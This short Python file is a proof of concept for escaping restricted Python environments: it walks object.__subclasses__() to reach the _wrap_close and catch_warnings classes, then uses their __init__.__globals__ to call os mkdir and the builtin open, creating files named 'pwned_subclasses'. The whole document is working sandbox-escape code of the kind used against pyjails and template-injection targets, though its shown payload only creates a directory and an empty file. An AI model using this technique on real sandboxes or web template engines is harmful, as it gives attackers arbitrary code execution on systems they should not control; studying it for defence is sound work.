"""file: from object to a class that has opened os."""

for each in object.__subclasses__():
    if each.__name__ == "_wrap_close":
        each.__init__.__globals__["mkdir"]("pwned_subclasses")
for each in ().__class__.__base__.__subclasses__():
    if each.__name__ == "catch_warnings":
        each.__init__.__globals__["__builtins__"]["open"]("pwned_subclasses_warnings", "w").close()
